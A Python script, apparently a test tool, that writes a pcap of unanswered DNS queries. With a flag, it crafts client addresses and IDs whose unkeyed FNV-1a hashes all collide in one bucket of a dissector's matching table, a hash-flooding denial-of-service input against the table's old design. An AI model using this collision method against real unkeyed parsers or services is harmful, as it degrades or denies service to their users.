"""Attack capture: N DNS queries (A a.example.com) over UDP from N
distinct clients to 10.0.0.53:53, never answered. With --collide their
transaction keys all fall in one bucket of the DNS matching table as it was
before it was keyed: 32-bit FNV-1a over (proto, address types, ID, client
port, server port, client address, server address), masked to the bucket
count (the low 16 bits are made equal, so any table of up to 65,536
buckets: max_dns_pending 65536 gives at most that). Without --collide the
clients are consecutive addresses: the ordinary capture of the same size.
Usage: dns_flood.py [--collide] N OUT.pcap"""
import struct
import sys

from floodlib import FNV_OFFSET, FNV_PRIME, FNV_PRIME_INV, Pcap, fnv, ipv4, udp

SERVER = bytes([10, 0, 0, 53])
CPORT = 40000
AT_IPV4 = 2  # dx_addr_type DX_AT_IPV4
TARGET = 0x4321  # the low 16 bits every key hashes to
M16 = 0xFFFF


def key_prefix(ident):
    return bytes([17, AT_IPV4, AT_IPV4, ident >> 8, ident & 255, CPORT >> 8, CPORT & 255,
                  (53 ^ (53 >> 8)) & 255])


def old_hash(ident, client):
    """proto/dns.c's key_hash before keying."""
    h = fnv(FNV_OFFSET, key_prefix(ident))
    h = fnv(h, bytes(client) + bytes(12))
    return fnv(h, SERVER + bytes(12))


def colliding(n):
    """Yields n (ID, client address) pairs whose old hash ends in TARGET.

    The low 16 bits of FNV-1a depend only on the low 16 bits of the state,
    and the bytes after the client's last two address bytes are fixed: so
    the state after them must be one value S (found by undoing the fixed
    tail), and for a state s before them, c2 must make (s ^ c2) * P agree
    with S * P^-1 in bits 8-15, and c3 is then the rest."""
    tail = bytes(12) + SERVER + bytes(12)
    s_after = TARGET
    for b in reversed(tail):
        s_after = ((s_after * FNV_PRIME_INV) & M16) ^ b
    want = (s_after * FNV_PRIME_INV) & M16  # (s ^ c2) * P ^ c3 must be this
    cache = {}
    got = 0
    for ident in range(1, 1 << 16):
        pre = fnv(FNV_OFFSET, key_prefix(ident))
        for c1 in range(1, 255):
            s = fnv(pre, [10, c1]) & M16
            sols = cache.get(s)
            if sols is None:
                sols = []
                for c2 in range(256):
                    w = ((s ^ c2) * FNV_PRIME) & M16
                    if (w ^ want) >> 8 == 0:
                        sols.append((c2, (w ^ want) & 255))
                cache[s] = sols
            for c2, c3 in sols:
                yield ident, [10, c1, c2, c3]
                got += 1
                if got == n:
                    return


def ordinary(n):
    for i in range(n):
        yield 1 + (i % 65535), [10, 1 + (i >> 16), (i >> 8) & 255, i & 255]


QUESTION = b'\x01a\x07example\x03com\x00' + struct.pack('!HH', 1, 1)


def main():
    args = sys.argv[1:]
    collide = '--collide' in args
    args = [a for a in args if a != '--collide']
    n, out = int(args[0]), args[1]
    cap = Pcap(out)
    for k, (ident, client) in enumerate(colliding(n) if collide else ordinary(n)):
        if collide and k < 16:
            assert old_hash(ident, client) & M16 == TARGET
        msg = struct.pack('!HHHHHH', ident, 0x0100, 1, 0, 0, 0) + QUESTION
        cap.write(ipv4(client, SERVER, 17, udp(CPORT, 53, msg)))
    cap.close()


if __name__ == '__main__':
    main()
